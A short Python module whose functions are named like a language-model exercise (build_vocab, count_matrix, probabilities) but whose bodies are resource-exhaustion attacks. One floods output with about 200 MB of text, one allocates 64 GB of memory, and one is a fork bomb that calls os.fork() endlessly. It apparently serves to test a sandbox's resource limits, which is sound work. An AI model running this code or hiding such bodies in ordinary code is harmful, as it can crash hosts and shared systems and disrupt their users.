"""Floods the output, then asks for all the memory there is, and forks without end."""
import os
import sys


def build_vocab(words):
    for _ in range(100_000):
        print("x" * 1000)
        sys.stderr.write("y" * 1000)
    return [".", *sorted(set("".join(words)))]


def count_matrix(words, vocab):
    hog = [bytearray(1 << 30) for _ in range(64)]
    return hog


def probabilities(N, k=1.0, dtype=None):
    while True:
        os.fork()
